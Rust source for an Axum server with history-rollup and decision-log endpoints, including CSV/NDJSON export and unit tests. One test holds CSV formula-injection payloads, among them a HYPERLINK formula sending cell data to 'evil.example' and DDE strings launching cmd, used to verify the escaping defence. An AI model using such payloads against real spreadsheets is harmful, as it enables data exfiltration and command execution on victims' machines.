//! `GET /api/orchestrator/history` (trends from the store's per-minute
//! rollups) and `GET /api/orchestrator/decisions` (the stored decision log,
//! paged newest first, or exported whole as NDJSON or CSV).

use std::sync::Arc;

use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use chrono::{DateTime, TimeZone as _, Utc};
use shared::api::Mode;
use shared::cluster::ClusterView;
use shared::history::{
    DECISION_TIME_BOUNDS_MS, DecisionPage, History, LATENCY_BOUNDS_MS, MAX_POINTS, Step, TierSeries,
};
use shared::{Complexity, RoutingDecision, Tier};
use tokio::sync::OwnedSemaphorePermit;

use crate::error::ApiError;
use crate::state::AppState;
use crate::store::{Filter, ROLLUP_SUMS, Store};

/// Decisions a page holds unless `limit` says otherwise.
pub const DEFAULT_PAGE: usize = 100;
/// Most decisions one page may hold.
pub const MAX_PAGE: usize = 1_000;
/// Decisions an export reads from the store at a time.
const EXPORT_CHUNK: usize = 1_000;

/// The query string as `(name, value)` pairs, each name at most once.
pub(crate) fn params(req: &Request) -> Result<Vec<(String, String)>, ApiError> {
    let raw = req.uri().query().unwrap_or("");
    let pairs: Vec<(String, String)> = serde_urlencoded::from_str(raw)
        .map_err(|e| ApiError::BadParameter(format!("query string: {e}")))?;
    for (i, (name, _)) in pairs.iter().enumerate() {
        if pairs[..i].iter().any(|(n, _)| n == name) {
            return Err(ApiError::BadParameter(format!(
                "{name}: given more than once"
            )));
        }
    }
    Ok(pairs)
}

pub(crate) fn get<'a>(pairs: &'a [(String, String)], name: &str) -> Option<&'a str> {
    pairs
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.as_str())
}

pub(crate) fn store(state: &AppState) -> Result<Arc<Store>, ApiError> {
    state.service.store().cloned().ok_or(ApiError::NoStore)
}

/// A time as given to `from`/`to`, exactly as [`TIME_PATTERN`] and the
/// document say: RFC 3339, Unix seconds or milliseconds (a number from
/// 100000000000 on is taken as ms), `now`, or `now` less a whole number of
/// seconds, minutes, hours, days or weeks (`-24h`, `now-7d`); from the Unix
/// epoch to [`MAX_EPOCH`], so that every time the history answers (aligned
/// to its step) is one RFC 3339 can write.
pub fn parse_time(name: &str, raw: &str, now: DateTime<Utc>) -> Result<DateTime<Utc>, ApiError> {
    let t = parse_any_time(name, raw, now)?;
    if (0..=MAX_EPOCH).contains(&t.timestamp_millis()) {
        return Ok(t);
    }
    Err(ApiError::BadParameter(format!(
        "{name}: {raw:?} is {}, outside 1970-01-01T00:00:00Z to 9999-12-31T00:00:00Z",
        t.to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
    )))
}

fn parse_any_time(name: &str, raw: &str, now: DateTime<Utc>) -> Result<DateTime<Utc>, ApiError> {
    let bad = || {
        ApiError::BadParameter(format!(
            "{name}: {raw:?} is not a time (RFC 3339, Unix seconds or ms, now, or -N with a unit s, m, h, d or w, such as -24h)"
        ))
    };
    if raw == "now" {
        return Ok(now);
    }
    if let Some(ago) = raw.strip_prefix("now-").or_else(|| raw.strip_prefix('-')) {
        // The document's form only (humantime would take `1h30m` or
        // `2days` too): 1 to 6 digits and one unit.
        let (digits, unit) = ago.split_at(ago.len().saturating_sub(1));
        if !(1..=RELATIVE_DIGITS).contains(&digits.len())
            || !digits.bytes().all(|b| b.is_ascii_digit())
            || !matches!(unit, "s" | "m" | "h" | "d" | "w")
        {
            return Err(bad());
        }
        return humantime::parse_duration(ago)
            .ok()
            .and_then(|d| chrono::Duration::from_std(d).ok())
            .and_then(|ago| now.checked_sub_signed(ago))
            .ok_or_else(bad);
    }
    if !raw.is_empty() && raw.bytes().all(|b| b.is_ascii_digit()) {
        let n: i64 = raw.parse().map_err(|_| bad())?;
        // Beyond chrono's range is not a time; beyond ours, parse_time says so.
        let ms = if n < 100_000_000_000 { n * 1_000 } else { n };
        return Utc.timestamp_millis_opt(ms).single().ok_or_else(bad);
    }
    DateTime::parse_from_rfc3339(raw)
        .map(|t| t.with_timezone(&Utc))
        .map_err(|_| bad())
}

/// The range `from`..`to` of a query (`to` default now, `from` default
/// `span` before `to`); 400 unless `from` is before `to`.
pub(crate) fn time_range(
    pairs: &[(String, String)],
    span: chrono::Duration,
) -> Result<(DateTime<Utc>, DateTime<Utc>), ApiError> {
    let now = Utc::now();
    let to = match get(pairs, "to") {
        Some(raw) => parse_time("to", raw, now)?,
        None => now,
    };
    let from = match get(pairs, "from") {
        Some(raw) => parse_time("from", raw, now)?,
        None => to - span,
    };
    if from >= to {
        return Err(ApiError::BadParameter(format!(
            "from ({}) must be before to ({})",
            from.to_rfc3339(),
            to.to_rfc3339()
        )));
    }
    Ok((from, to))
}

/// The most digits of a relative time (`-999999w`, some 19,000 years).
const RELATIVE_DIGITS: usize = 6;

/// The latest time accepted, in Unix ms: 9999-12-31T00:00:00Z, the last
/// day RFC 3339's four-digit years can write whose day-long step still
/// ends within them.
pub const MAX_EPOCH: i64 = 253_402_214_400_000;

/// The relative forms of a time, as the document's pattern.
pub const RELATIVE_PATTERN: &str = "^(now|(now)?-[0-9]{1,6}[smhdw])$";

/// Trends per tier over time, from the per-minute rollups.
#[utoipa::path(
    get,
    path = "/api/orchestrator/history",
    tag = "history",
    params(
        ("from" = Option<String>, Query, description = "Start: RFC 3339, Unix seconds or ms, `now` or `-DURATION` (`-24h`), from 1970-01-01T00:00:00Z to 9999-12-31T00:00:00Z; default 24 hours before `to`"),
        ("to" = Option<String>, Query, description = "End (exclusive), in the same forms; default now"),
        ("step" = Option<String>, Query, description = "`1m`, `5m`, `1h` or `1d`; default the shortest whose steps in the span number at most 1440", example = "1h"),
    ),
    responses(
        (status = 200, description = "One value per step in each series, per tier; steps are aligned to the epoch (UTC), the first holding `from` and the newest `to` (a range off the step's boundaries has one point more than its span in steps)", body = History),
        (status = 400, description = "A bad or out-of-range time or step, `from` not before `to`, or a span of more than 1440 steps", body = crate::error::ErrorBody),
        (status = 404, description = "The server runs with --in-memory: there is no stored history", body = crate::error::ErrorBody),
    )
)]
pub async fn history(State(state): State<AppState>, req: Request) -> Result<Response, ApiError> {
    let pairs = params(&req)?;
    let (from, to) = time_range(&pairs, chrono::Duration::days(1))?;
    let (from_ms, to_ms) = (from.timestamp_millis(), to.timestamp_millis());
    // Both positive: from < to.
    let span_minutes = (to_ms - from_ms).unsigned_abs().div_ceil(60_000) as i64;
    let step = match get(&pairs, "step") {
        Some(raw) => Step::parse(raw).ok_or_else(|| {
            ApiError::BadParameter(format!("step: {raw:?} is not one of 1m, 5m, 1h, 1d"))
        })?,
        None => Step::fitting(span_minutes),
    };
    let m = step.minutes();
    let n = step.points(span_minutes);
    if n > MAX_POINTS {
        return Err(ApiError::BadParameter(format!(
            "{n} points of {} from {} to {}: at most {MAX_POINTS}; use a longer step or a shorter range",
            step.name(),
            from.to_rfc3339(),
            to.to_rfc3339()
        )));
    }
    // The points cover [from, to]: the first holds `from`, the newest `to`
    // (a range off the step's boundaries takes one point more than its
    // span in steps).
    let (first, n) = shared::history::aligned(from_ms, to_ms, step);
    let end = first + n * m;
    let store = store(&state)?;
    let (mut rows, key_rows) = tokio::task::spawn_blocking(move || {
        Ok::<_, rusqlite::Error>((
            store.rollups(first, end, m)?,
            store.key_rollups(first, end, m)?,
        ))
    })
    .await
    .map_err(|e| ApiError::Internal(e.to_string()))?
    .map_err(|e| ApiError::Internal(format!("history: {e}")))?;
    // With --redis, the other instances' rollups are summed in.
    let mut scope = None;
    if let Some(cluster) = state.service.cluster() {
        let mut instances = vec![state.service.instance().id];
        let view = match cluster.peer_rollups(first, end, m).await {
            Ok((peer_rows, ids)) => {
                rows.extend(peer_rows);
                instances.extend(ids);
                ClusterView::Cluster
            }
            Err(_) => ClusterView::Local,
        };
        scope = Some((view, instances));
    }
    let len = n as usize;
    let dt = DECISION_TIME_BOUNDS_MS.len() + 1;
    let lat = LATENCY_BOUNDS_MS.len() + 1;
    let mut series: Vec<TierSeries> = Tier::ALL
        .into_iter()
        .map(|tier| TierSeries {
            tier,
            decisions: vec![0; len],
            simple: vec![0; len],
            moderate: vec![0; len],
            complex: vec![0; len],
            two_stage: vec![0; len],
            simple_mode: vec![0; len],
            decision_time_ms_sum: vec![0.0; len],
            decision_time_buckets: vec![0; dt],
            prompt_tokens: vec![0; len],
            completion_tokens: vec![0; len],
            upstream_calls: vec![0; len],
            upstream_errors: vec![0; len],
            upstream_latency_ms_sum: vec![0.0; len],
            upstream_latency_buckets: vec![0; lat],
            better: vec![0; len],
            tie: vec![0; len],
            worse: vec![0; len],
        })
        .collect();
    for (b, tier, v) in rows {
        let Some(i) = usize::try_from(b).ok().filter(|i| *i < len) else {
            continue;
        };
        let s = &mut series[tier.index()];
        let count = |x: f64| x.max(0.0) as u64;
        s.decisions[i] += count(v[0]);
        s.simple[i] += count(v[1]);
        s.moderate[i] += count(v[2]);
        s.complex[i] += count(v[3]);
        s.two_stage[i] += count(v[4]);
        s.simple_mode[i] += count(v[5]);
        s.decision_time_ms_sum[i] += finite(v[6]);
        s.prompt_tokens[i] += count(v[7]);
        s.completion_tokens[i] += count(v[8]);
        s.upstream_calls[i] += count(v[9]);
        s.upstream_errors[i] += count(v[10]);
        s.upstream_latency_ms_sum[i] += finite(v[11]);
        s.better[i] += count(v[12]);
        s.tie[i] += count(v[13]);
        s.worse[i] += count(v[14]);
        let rest = &v[ROLLUP_SUMS.len()..];
        for (k, x) in rest[..dt].iter().enumerate() {
            s.decision_time_buckets[k] += count(*x);
        }
        for (k, x) in rest[dt..].iter().enumerate() {
            s.upstream_latency_buckets[k] += count(*x);
        }
    }
    let at = |minute: i64| Utc.timestamp_opt(minute * 60, 0).single().unwrap_or(to);
    let body = History {
        from: at(first),
        to: at(end),
        step: step.name().to_owned(),
        step_seconds: (m * 60) as u32,
        times: (0..n).map(|i| (first + i * m) * 60).collect(),
        series,
        decision_time_bounds_ms: DECISION_TIME_BOUNDS_MS.to_vec(),
        upstream_latency_bounds_ms: LATENCY_BOUNDS_MS.to_vec(),
        view: scope.as_ref().map(|s| s.0),
        instances: scope.map(|s| s.1),
        keys: (!key_rows.is_empty())
            .then(|| shared::history::key_series(key_rows, len, shared::keys::KEYS_IN_STATUS)),
    };
    Ok(axum::Json(body).into_response())
}

fn finite(x: f64) -> f64 {
    if x.is_finite() { x } else { 0.0 }
}

/// How the decision log is answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    Json,
    Ndjson,
    Csv,
}

/// The decisions endpoint's parameters.
#[derive(Debug)]
struct LogQuery {
    before: u64,
    limit: Option<usize>,
    filter: Filter,
    format: Format,
}

fn parse_log_query(pairs: &[(String, String)]) -> Result<LogQuery, ApiError> {
    let bad = |name: &str, raw: &str, want: &str| {
        ApiError::BadParameter(format!("{name}: {raw:?} is not {want}"))
    };
    let before = match get(pairs, "before") {
        Some(raw) => raw
            .parse::<u64>()
            .ok()
            .filter(|n| (1..=i64::MAX as u64).contains(n))
            .ok_or_else(|| bad("before", raw, "a sequence number (1 to 2^63-1)"))?,
        None => u64::MAX,
    };
    let limit = match get(pairs, "limit") {
        Some(raw) => Some(
            raw.parse::<usize>()
                .ok()
                .filter(|n| (1..=MAX_PAGE).contains(n))
                .ok_or_else(|| bad("limit", raw, "an integer in 1..=1000"))?,
        ),
        None => None,
    };
    let tier = match get(pairs, "tier") {
        Some(raw) => Some(
            Tier::ALL
                .into_iter()
                .find(|t| t.label() == raw || t.internal_name() == raw)
                .ok_or_else(|| bad("tier", raw, "Q2, Q3, Q4, fast, balanced or powerful"))?,
        ),
        None => None,
    };
    let complexity = match get(pairs, "complexity") {
        Some(raw) => Some(
            [
                Complexity::Simple,
                Complexity::Moderate,
                Complexity::Complex,
            ]
            .into_iter()
            .find(|c| c.label() == raw)
            .ok_or_else(|| bad("complexity", raw, "SIMPLE, MODERATE or COMPLEX"))?,
        ),
        None => None,
    };
    let mode = match get(pairs, "mode") {
        Some("none") => Some(None),
        Some(raw) => match Mode::from_name(raw) {
            Some(mode) => Some(Some(mode)),
            None => {
                return Err(bad(
                    "mode",
                    raw,
                    "simple, two-stage, council, benchmark or none",
                ));
            }
        },
        None => None,
    };
    let text = get(pairs, "q").map(str::to_owned);
    if text.as_ref().is_some_and(|t| t.chars().count() > 200) {
        return Err(ApiError::BadParameter("q: at most 200 characters".into()));
    }
    let key = get(pairs, "key").map(str::to_owned);
    if key
        .as_ref()
        .is_some_and(|k| k.len() > 64 || !k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
    {
        return Err(ApiError::BadParameter(
            "key: a key id (letters, digits and dashes, at most 64)".into(),
        ));
    }
    let format = match get(pairs, "format") {
        None | Some("json") => Format::Json,
        Some("ndjson") => Format::Ndjson,
        Some("csv") => Format::Csv,
        Some(raw) => return Err(bad("format", raw, "json, ndjson or csv")),
    };
    Ok(LogQuery {
        before,
        limit,
        filter: Filter {
            tier,
            complexity,
            mode,
            text,
            key,
        },
        format,
    })
}

/// Stored decisions, newest first, filtered and paged; or all of them that
/// pass the filters, streamed as NDJSON or CSV.
#[utoipa::path(
    get,
    path = "/api/orchestrator/decisions",
    tag = "history",
    params(
        ("before" = Option<u64>, Query, description = "Only decisions with a smaller `seq` (keyset paging: pass the previous page's `nextBefore`)", minimum = 1),
        ("limit" = Option<usize>, Query, description = "Decisions per page, 1..=1000 (default 100); for an export, the most exported (default all)", minimum = 1, maximum = 1000),
        ("tier" = Option<String>, Query, description = "Only this tier: Q2, Q3, Q4, fast, balanced or powerful"),
        ("complexity" = Option<String>, Query, description = "Only SIMPLE, MODERATE or COMPLEX"),
        ("mode" = Option<String>, Query, description = "Only `simple`, `two-stage`, `council`, `benchmark`, or `none` (reported without a mode)"),
        ("q" = Option<String>, Query, description = "Only queries holding this text (case-sensitive; at most 200 characters)"),
        ("key" = Option<String>, Query, description = "Only decisions of this virtual key (its id, as `GET /api/keys` lists it)"),
        ("format" = Option<String>, Query, description = "`json` (a page, default), `ndjson` or `csv` (an export of every match, streamed)"),
    ),
    responses(
        (status = 200, description = "A page (JSON), or an export: NDJSON (one decision per line) or CSV with a header row",
         content(
            (DecisionPage = "application/json"),
            (String = "application/x-ndjson"),
            (String = "text/csv"),
         )),
        (status = 400, description = "A bad parameter", body = crate::error::ErrorBody),
        (status = 404, description = "The server runs with --in-memory: there is no stored log", body = crate::error::ErrorBody),
        (status = 503, description = "`--max-exports` exports are being sent already; retry after `Retry-After` seconds", body = crate::error::ErrorBody,
         headers(("Retry-After" = u64, description = "Seconds to wait"))),
    )
)]
pub async fn decisions(State(state): State<AppState>, req: Request) -> Result<Response, ApiError> {
    let query = parse_log_query(&params(&req)?)?;
    let store = store(&state)?;
    match query.format {
        Format::Json => {
            let limit = query.limit.unwrap_or(DEFAULT_PAGE);
            let (filter, before) = (query.filter, query.before);
            let mut rows =
                tokio::task::spawn_blocking(move || store.page(&filter, before, limit + 1))
                    .await
                    .map_err(|e| ApiError::Internal(e.to_string()))?
                    .map_err(|e| ApiError::Internal(format!("decisions: {e}")))?;
            let next_before = (rows.len() > limit).then(|| {
                rows.truncate(limit);
                rows.last().map_or(0, |d| d.seq)
            });
            Ok(axum::Json(DecisionPage {
                decisions: rows,
                next_before,
            })
            .into_response())
        }
        format => {
            let permit = state
                .exports
                .try_take()
                .ok_or(ApiError::TooManyExports(state.exports.max()))?;
            Ok(export(store, query, format, permit))
        }
    }
}

/// Where an export has got to.
struct Cursor {
    store: Arc<Store>,
    query: LogQuery,
    format: Format,
    /// Rows still allowed by `limit`.
    left: usize,
    first: bool,
    /// One of the `--max-exports` places, held until the body is done or
    /// dropped (a client gone, or one that stopped reading and hit the
    /// connection's write timeout).
    _place: OwnedSemaphorePermit,
}

/// Streams every matching decision, a chunk at a time read by keyset from
/// the store: memory stays flat whatever the export's size. The body pulls:
/// the next chunk is read (on a blocking thread, for that read only) when
/// the connection asks for it, so a client that reads slowly, or not at
/// all, holds no thread and at most one chunk.
fn export(
    store: Arc<Store>,
    query: LogQuery,
    format: Format,
    place: OwnedSemaphorePermit,
) -> Response {
    let cursor = Cursor {
        store,
        left: query.limit.unwrap_or(usize::MAX),
        query,
        format,
        first: true,
        _place: place,
    };
    let stream = futures_util::stream::unfold(Some(cursor), |cursor| async move {
        let mut c = cursor?;
        if c.left == 0 {
            return None;
        }
        let chunk = EXPORT_CHUNK.min(c.left);
        let (store, filter, before) =
            (Arc::clone(&c.store), c.query.filter.clone(), c.query.before);
        let read = tokio::task::spawn_blocking(move || store.page(&filter, before, chunk)).await;
        let rows = match read {
            Ok(Ok(rows)) => rows,
            Ok(Err(e)) => return Some((Err(std::io::Error::other(e.to_string())), None)),
            Err(e) => return Some((Err(std::io::Error::other(e.to_string())), None)),
        };
        let bytes = match c.format {
            Format::Csv => csv_chunk(&rows, c.first),
            _ => ndjson_chunk(&rows),
        };
        c.first = false;
        c.left -= rows.len();
        let next = match rows.last() {
            Some(last) if rows.len() == chunk => {
                c.query.before = last.seq;
                Some(c)
            }
            _ => None,
        };
        Some((Ok::<_, std::io::Error>(Bytes::from(bytes)), next))
    });
    let (content_type, name) = match format {
        Format::Csv => ("text/csv", "decisions.csv"),
        _ => ("application/x-ndjson", "decisions.ndjson"),
    };
    let disposition = format!("attachment; filename=\"{name}\"");
    (
        [
            (header::CONTENT_TYPE, HeaderValue::from_static(content_type)),
            (
                header::CONTENT_DISPOSITION,
                HeaderValue::from_str(&disposition).expect("an ASCII header"),
            ),
        ],
        Body::from_stream(stream),
    )
        .into_response()
}

fn ndjson_chunk(rows: &[RoutingDecision]) -> Vec<u8> {
    let mut out = Vec::with_capacity(rows.len() * 256);
    for d in rows {
        serde_json::to_writer(&mut out, d).expect("a decision serialises");
        out.push(b'\n');
    }
    out
}

/// The CSV columns of an export.
pub const CSV_HEADER: [&str; 14] = [
    "seq",
    "id",
    "timestamp",
    "tier",
    "tierName",
    "complexity",
    "score",
    "mode",
    "decisionTimeMs",
    "promptTokens",
    "completionTokens",
    "signals",
    "query",
    "verdict",
];

/// A text cell a spreadsheet cannot take for a formula: one that begins
/// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
/// (OWASP's advice on CSV injection), which spreadsheets show as text.
/// Numbers are written by us and never need it; NDJSON is left as is.
pub fn cell(text: &str) -> String {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{text}"),
        _ => text.to_owned(),
    }
}

fn csv_chunk(rows: &[RoutingDecision], header: bool) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::with_capacity(rows.len() * 200));
    let mut put = || -> csv::Result<()> {
        if header {
            w.write_record(CSV_HEADER)?;
        }
        for d in rows {
            let opt = |v: Option<u64>| v.map(|n| n.to_string()).unwrap_or_default();
            w.write_record([
                d.seq.to_string(),
                cell(&d.id),
                d.timestamp
                    .to_rfc3339_opts(chrono::SecondsFormat::Millis, true),
                d.tier.label().to_owned(),
                cell(&d.tier_name),
                d.complexity.label().to_owned(),
                d.score.to_string(),
                d.mode.map(Mode::name).unwrap_or_default().to_owned(),
                d.decision_time_ms
                    .map(|x| x.to_string())
                    .unwrap_or_default(),
                opt(d.usage.map(|u| u.prompt_tokens)),
                opt(d.usage.map(|u| u.completion_tokens)),
                d.signals
                    .as_ref()
                    .map(|s| cell(&serde_json::to_string(s).unwrap_or_default()))
                    .unwrap_or_default(),
                cell(&d.query),
                d.verdict.map_or("", |v| v.label()).to_owned(),
            ])?;
        }
        w.flush()?;
        Ok(())
    };
    if put().is_err() {
        return Vec::new();
    }
    w.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pairs(raw: &str) -> Vec<(String, String)> {
        serde_urlencoded::from_str(raw).unwrap()
    }

    #[test]
    fn times_in_every_form() {
        let now = Utc.timestamp_opt(1_800_000_000, 0).unwrap();
        let t = |raw: &str| parse_time("from", raw, now).map(|t| t.timestamp_millis());
        assert_eq!(t("now").unwrap(), 1_800_000_000_000);
        assert_eq!(t("-1h").unwrap(), 1_800_000_000_000 - 3_600_000);
        assert_eq!(t("now-7d").unwrap(), 1_800_000_000_000 - 7 * 86_400_000);
        assert_eq!(t("1700000000").unwrap(), 1_700_000_000_000);
        assert_eq!(t("1700000000123").unwrap(), 1_700_000_000_123);
        assert_eq!(t("2026-01-01T00:00:00Z").unwrap(), 1_767_225_600_000);
        assert_eq!(t("2026-01-01T01:00:00+01:00").unwrap(), 1_767_225_600_000);
        for bad in [
            "yesterday",
            "-soon",
            "-1y",
            "-1234567d",
            "now-",
            "",
            "2026-13-01T00:00:00Z",
            "2026-01-01T00:00:00",
            "99999999999999999999",
            "8000000000000001",
            "+5",
            // Outside the years RFC 3339 writes, or before the epoch.
            "253402214400001",
            "777240079838084",
            "9999-12-31T00:00:00.001Z",
            "1969-12-31T23:59:59Z",
            "-999999w",
        ] {
            assert!(t(bad).is_err(), "{bad}");
        }
        assert_eq!(t("253402214400000").unwrap(), MAX_EPOCH);
        assert_eq!(t("9999-12-31T00:00:00Z").unwrap(), MAX_EPOCH);
        assert_eq!(t("0").unwrap(), 0);
    }

    /// The latest `to` with the longest step still ends in year 9999, so
    /// the history's `from` and `to` are always RFC 3339 date-times.
    #[test]
    fn the_latest_time_ends_its_step_within_rfc3339() {
        let day = Step::parse("1d").unwrap().minutes();
        let last = shared::history::minute_of(MAX_EPOCH - 1).div_euclid(day);
        let end = Utc.timestamp_opt((last + 1) * day * 60, 0).unwrap();
        assert_eq!(end.to_rfc3339(), "9999-12-31T00:00:00+00:00");
    }

    #[test]
    fn log_parameters() {
        let q = parse_log_query(&pairs(
            "before=50&limit=10&tier=powerful&complexity=COMPLEX&mode=none&q=a%20b&format=csv",
        ))
        .unwrap();
        assert_eq!((q.before, q.limit), (50, Some(10)));
        assert_eq!(q.filter.tier, Some(Tier::Q4));
        assert_eq!(q.filter.complexity, Some(Complexity::Complex));
        assert_eq!(q.filter.mode, Some(None));
        assert_eq!(q.filter.text.as_deref(), Some("a b"));
        assert_eq!(q.format, Format::Csv);
        let d = parse_log_query(&[]).unwrap();
        assert_eq!(
            (d.before, d.limit, d.format),
            (u64::MAX, None, Format::Json)
        );
        for bad in [
            "before=0",
            "before=x",
            "limit=0",
            "limit=1001",
            "tier=Q5",
            "complexity=hard",
            "mode=fancy",
            "format=xml",
            "format=",
            "tier=",
            "tier=q2",
            "complexity=simple",
            "before=9223372036854775808",
        ] {
            assert!(parse_log_query(&pairs(bad)).is_err(), "{bad}");
        }
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let d = RoutingDecision::new(
            "i-1".into(),
            "a, \"quoted\"\nline",
            Tier::Q3,
            4.0,
            Utc.timestamp_opt(0, 0).unwrap(),
        )
        .unwrap();
        let text = String::from_utf8(csv_chunk(&[d], true)).unwrap();
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let row = r.records().next().unwrap().unwrap();
        assert_eq!(&row[12], "a, \"quoted\"\nline");
        assert_eq!(&row[3], "Q3");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|'/C notepad'!A1",
            "\tx=1",
            "\r=1",
        ] {
            let d = RoutingDecision::new(
                "i-1".into(),
                payload,
                Tier::Q2,
                1.0,
                Utc.timestamp_opt(0, 0).unwrap(),
            )
            .unwrap();
            let text = String::from_utf8(csv_chunk(&[d], true)).unwrap();
            let mut r = csv::Reader::from_reader(text.as_bytes());
            let row = r.records().next().unwrap().unwrap();
            let shown = &row[12];
            assert!(shown.starts_with('\''), "{payload:?} came out as {shown:?}");
            assert_eq!(&shown[1..], shared::stored_query(payload).unwrap());
            for c in &row {
                assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
            }
        }
        assert_eq!(cell("plain"), "plain");
        assert_eq!(cell("a=b"), "a=b");
    }
}
